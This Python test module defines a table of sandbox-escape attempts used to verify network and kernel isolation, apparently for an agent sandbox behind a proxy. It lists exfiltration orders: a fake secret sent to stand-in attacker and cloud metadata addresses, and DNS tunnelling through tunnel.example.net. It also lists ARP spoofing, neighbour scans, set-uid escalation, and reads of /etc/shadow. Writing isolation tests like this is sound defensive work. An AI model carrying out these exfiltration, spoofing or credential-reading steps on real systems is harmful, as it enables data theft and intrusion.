"""Owns the table of attacks: what is tried, and what it must come to in the open. Runs nothing and judges nothing.

The same table is tried behind every fence; what differs from place to place (ports, addresses) is a Scene.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import StrEnum
from typing import TYPE_CHECKING, Final

from tests.e2e.attacks.proxy_games import GAMES
from tests.rig import addresses

if TYPE_CHECKING:
    from collections.abc import Iterable, Mapping

    from tests.e2e.listeners import Target

Order = dict[str, object]
TUNNEL: Final = "tunnel.example.net"
"""What is smuggled out in names is asked for below this one, which nobody else asks for."""
TARGETS: Final = (
    *addresses.EVIL,
    addresses.METADATA,
    addresses.TASK_METADATA,
    addresses.METADATA_V6,
    addresses.PRIVATE[0],
    addresses.PRIVATE[-1],
)
"""What is alive in the internet and no proxy of these runs has a reason to reach."""
DATA: Final = "stolen: swordfish-4711"
PORT: Final = 8000
"""What a neighbour listens on."""


class Group(StrEnum):
    """What is attacked; a section of the table."""

    HOST = "The host's own services"
    BOUND = "The host and the internet, past routing: bound sockets, crafted packets and frames"
    INTERNET = "The internet, past the proxy"
    NAMES = "Names and tunnels in them"
    NEIGHBOUR = "A neighbour: its proxy, its agent, its gate"
    NETWORK = "The sandbox's own network"
    KERNEL = "The kernel and other processes"
    PROXY = "The proxy, by what is said to it"


class Open(StrEnum):
    """What an attack must come to in the open, so that its failure behind a fence is worth something."""

    ARRIVES = "arrives"
    """Something comes to a listener, or crosses the link."""
    WORKS = "works"
    """The kernel does it."""
    FENCED = "-"
    """There is nothing like it in the open: it is about the proxy itself, whose other answers are the control."""


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack: its name is a line of the table; `order` is the workload's attempt."""

    group: Group
    name: str
    opens: Open
    order: Mapping[str, object]

    def attempt(self) -> Order:
        """Give the attempt, by its name."""
        return {"attempt": self.name, **self.order}


@dataclass(frozen=True, slots=True, kw_only=True)
class Scene:
    """What the attacker knows of the place: as much as anybody could find out, and more.

    `neighbour`: addresses of another sandbox's agent, `proxies` of its proxy, `pool` whence sandboxes get addresses;
    `abstract` its abstract socket, `set_uid` a command that is root where set-uid counts, `host_file` a readable file.
    """

    listeners: tuple[Target, ...]
    neighbour: tuple[str, ...]
    proxies: tuple[str, ...]
    pool: str
    abstract: str
    set_uid: tuple[str, ...]
    host_file: str
    scan_s: float = 4.0


def attacks(scene: Scene) -> tuple[Attack, ...]:
    """Give the table for a place. Names are the same everywhere."""
    found = (
        *_host(scene),
        *_bound(scene),
        *_internet(),
        *_names(),
        *_neighbour(scene),
        *_network(),
        *_kernel(scene),
        *(Attack(Group.PROXY, name, Open.FENCED, order) for name, order in GAMES.items()),
    )
    names = [attack.name for attack in found]
    if len(set(names)) != len(names):
        raise ValueError(f"two attacks have one name: {[name for name in names if names.count(name) > 1]}")
    return found


def _arrives(group: Group, rows: Iterable[tuple[str, Order]]) -> list[Attack]:
    return [Attack(group, name, Open.ARRIVES, order) for name, order in rows]


def _ports(scene: Scene) -> dict[str, int]:
    return {target.kind: target.port for target in scene.listeners if target.port is not None}


def _host(scene: Scene) -> list[Attack]:
    ports = _ports(scene)
    rows: list[tuple[str, Order]] = [
        (target.name, {key: value for key, value in target.attempt().items() if key != "attempt"})
        for target in scene.listeners
    ]
    rows += [
        ("tcp to where a gateway would be", {"do": "tcp", "address": "@gateway", "port": ports["tcp"]}),
        ("udp to where a gateway would be", {"do": "udp", "address": "@gateway", "port": ports["udp"]}),
        ("ping of where a gateway would be", {"do": "icmp", "address": "@gateway"}),
        (
            "tcp to the host's link-local address of IPv6",
            {"do": "link_local", "address": addresses.HOST_LINK_LOCAL, "port": ports["tcp"]},
        ),
        (
            "tcp to the host in an address of IPv4 in IPv6",
            {"do": "tcp", "address": f"::ffff:{addresses.HOST_V4}", "port": ports["tcp"]},
        ),
        ("raw ping of the host", {"do": "icmp", "address": addresses.HOST_V4, "raw": True}),
    ]
    return _arrives(Group.HOST, rows)


def _bound(scene: Scene) -> list[Attack]:
    ports = _ports(scene)
    host, host6, evil = addresses.HOST_V4, addresses.HOST_V6, addresses.EVIL[0]
    rows: list[tuple[str, Order]] = []
    for what, address in (("the host", host), ("a private address of the host", addresses.HOST_PRIVATE)):
        rows += [
            (f"tcp to {what}, bound to the link", {"do": "bind_to_device", "address": address, "port": ports["tcp"]}),
            (f"udp to {what}, bound to the link", {"do": "udp_bound", "address": address, "port": ports["udp"]}),
        ]
    rows += [
        (
            "tcp to where a gateway would be, bound to the link",
            {"do": "bind_to_device", "address": "@gateway", "port": ports["tcp"]},
        ),
        (
            "tcp to the host by IPv6, bound to the link",
            {"do": "bind_to_device", "address": host6, "port": ports["tcp"]},
        ),
        ("tcp to the internet, bound to the link", {"do": "bind_to_device", "address": evil, "port": 80}),
        ("udp to the internet, bound to the link", {"do": "udp_bound", "address": evil, "port": 443}),
        ("udp to every address of the link", {"do": "broadcast", "address": "@broadcast", "port": ports["udp"]}),
        ("udp to everybody", {"do": "broadcast", "address": "255.255.255.255", "port": ports["udp"]}),
        ("udp to every node of the link, by IPv6", {"do": "broadcast", "address": "ff02::1", "port": ports["udp"]}),
        ("a crafted packet to the host", {"do": "raw_ip", "address": host, "port": ports["udp"]}),
        ("a crafted packet to the internet", {"do": "raw_ip", "address": evil, "port": 9}),
        (
            "a crafted packet to the internet in the proxy's name",
            {"do": "raw_ip", "address": evil, "port": 9, "source": "@proxy"},
        ),
        ("a crafted frame to the host", {"do": "packet", "address": host, "port": ports["udp"], "source": "@own"}),
        ("a crafted frame to the internet", {"do": "packet", "address": evil, "port": 9, "source": "@own"}),
    ]
    found = _arrives(Group.BOUND, [(name, {"send": DATA, **order}) for name, order in rows])
    found += [
        Attack(Group.BOUND, "the gateway's address claimed by ARP", Open.WORKS, {"do": "arp", "address": "@gateway"}),
        Attack(Group.BOUND, "the proxy's address claimed by ARP", Open.WORKS, {"do": "arp", "address": "@proxy"}),
    ]
    return found


def _internet() -> list[Attack]:
    rows: list[tuple[str, Order]] = []
    for address in TARGETS:
        rows += [
            (f"tcp to {address}:80", {"do": "tcp", "address": address, "port": 80, "send": "GET / HTTP/1.0\r\n\r\n"}),
            (f"tcp to {address}:443", {"do": "tcp", "address": address, "port": 443}),
            (f"udp to {address}:443, as QUIC", {"do": "udp", "address": address, "port": 443, "send": DATA}),
            (f"data in a ping of {address}", {"do": "icmp", "address": address, "send": DATA}),
            (f"data in a raw ping of {address}", {"do": "icmp", "address": address, "raw": True, "send": DATA}),
        ]
    evil = addresses.EVIL[0]
    rows += [
        ("data in the first segment of a connection", {"do": "fast_open", "address": evil, "port": 80, "send": DATA}),
        ("tcp to an address of IPv4 in IPv6", {"do": "tcp", "address": f"::ffff:{evil}", "port": 80}),
        ("mail to a server that speaks first", {"do": "tcp", "address": evil, "port": 25, "receive": True}),
    ]
    return _arrives(Group.INTERNET, rows)


def _names() -> list[Attack]:
    rows: list[tuple[str, Order]] = []
    servers = (addresses.RESOLVER_V4, addresses.RESOLVER_V6, "8.8.8.8", addresses.METADATA, addresses.EVIL[0])
    for number, server in enumerate(servers):
        for do in ("dns_udp", "dns_tcp"):
            name = f"{do[4:]}{number}.{DATA.encode().hex()}.{TUNNEL}"
            rows.append((f"data in a name, asked of {server} by {do[4:]}", {"do": do, "address": server, "name": name}))
    rows.append(("data in a name, by the C library", {"do": "resolve", "name": f"libc.{DATA.encode().hex()}.{TUNNEL}"}))
    found = _arrives(Group.NAMES, rows)
    for server in ("127.0.0.11", "127.0.0.53"):
        for do in ("dns_udp", "dns_tcp"):
            name = f"{do[4:]}{server.rpartition('.')[2]}.{DATA.encode().hex()}.{TUNNEL}"
            order: Order = {"do": do, "address": server, "name": name}
            found.append(Attack(Group.NAMES, f"data in a name, asked of {server} by {do[4:]}", Open.FENCED, order))
    return found


def _neighbour(scene: Scene) -> list[Attack]:
    agent, proxy, outer = scene.neighbour[0], scene.proxies[0], scene.proxies[-1]
    rows: list[tuple[str, Order]] = [
        ("tcp to its agent", {"do": "tcp", "address": agent, "port": PORT, "send": DATA}),
        ("udp to its agent", {"do": "udp", "address": agent, "port": PORT, "send": DATA}),
        ("ping of its agent", {"do": "icmp", "address": agent, "send": DATA}),
        ("tcp to its agent, bound to the link", {"do": "bind_to_device", "address": agent, "port": PORT}),
        ("udp to its agent, bound to the link", {"do": "udp_bound", "address": agent, "port": PORT, "send": DATA}),
        ("its agent's abstract unix socket", {"do": "unix_abstract", "name": scene.abstract, "send": DATA}),
        ("its proxy, inside", {"do": "tcp", "address": proxy, "port": 3128, "send": _GATE, "receive": True}),
        ("its proxy, outside", {"do": "tcp", "address": outer, "port": 3128, "send": _GATE, "receive": True}),
        ("its proxy, bound to the link", {"do": "bind_to_device", "address": proxy, "port": 3128}),
        ("the port of its proxy's canary", {"do": "tcp", "address": proxy, "port": 3129}),
        (
            "every address that a sandbox may have, while another is being made",
            {"do": "scan", "network": scene.pool, "ports": [3128, PORT], "seconds": scene.scan_s},
        ),
    ]
    by_proxy: list[tuple[str, Order]] = [
        ("its proxy, by the own proxy", {"do": "proxy_raw", "host": proxy, "port": 3128}),
        ("its agent, by the own proxy", {"do": "proxy_get", "host": agent, "port": PORT}),
        ("its host, by the own proxy", {"do": "proxy_get", "host": "api.vendor.com"}),
    ]
    return [
        *_arrives(Group.NEIGHBOUR, rows),
        *(Attack(Group.NEIGHBOUR, name, Open.FENCED, order) for name, order in by_proxy),
    ]


_GATE: Final = f"GET http://gate.ringfence.invalid/{'0' * 32} HTTP/1.1\r\nHost: gate.ringfence.invalid\r\n\r\n"
"""What every proxy answers whoever reaches it."""


def _works(group: Group, rows: Iterable[tuple[str, Order]]) -> list[Attack]:
    return [Attack(group, name, Open.WORKS, order) for name, order in rows]


def _network() -> list[Attack]:
    changes = ("address", "route", "link", "neighbour")
    rows: list[tuple[str, Order]] = [
        (f"a new {change}, by netlink", {"do": "netlink", "change": change}) for change in changes
    ]
    rows += [(f"a new {change}, by ioctl", {"do": "ioctl", "change": change}) for change in ("route", "neighbour")]
    rows += [
        (f"{path} opened to write", {"do": "open_for", "path": path})
        for path in (
            "/proc/sys/net/ipv4/ip_forward",
            "/proc/sys/net/ipv4/ping_group_range",
            "/proc/sys/net/ipv4/conf/all/rp_filter",
        )
    ]
    rows.append(("a packet socket", {"do": "packet"}))
    return _works(Group.NETWORK, rows)


def _kernel(scene: Scene) -> list[Attack]:
    rows: list[tuple[str, Order]] = [
        ("root by a set-uid file", {"do": "set_uid", "command": list(scene.set_uid)}),
        ("a file system mounted", {"do": "mount"}),
    ]
    rows += [
        (f"{path} opened to write", {"do": "open_for", "path": path})
        for path in (
            "/proc/sys/kernel/core_pattern",
            "/proc/sys/kernel/hostname",
            "/proc/sys/vm/overcommit_memory",
            "/proc/sys/kernel/panic",
            "/usr/bin/env",
            "/etc/passwd",
        )
    ]
    rows += [(f"{path} read", {"do": "open_for", "path": path, "read": True}) for path in ("/etc/shadow", "/proc/kmsg")]
    rows.append(("a file of the host read", {"do": "open_for", "path": scene.host_file, "read": True}))
    return _works(Group.KERNEL, rows)
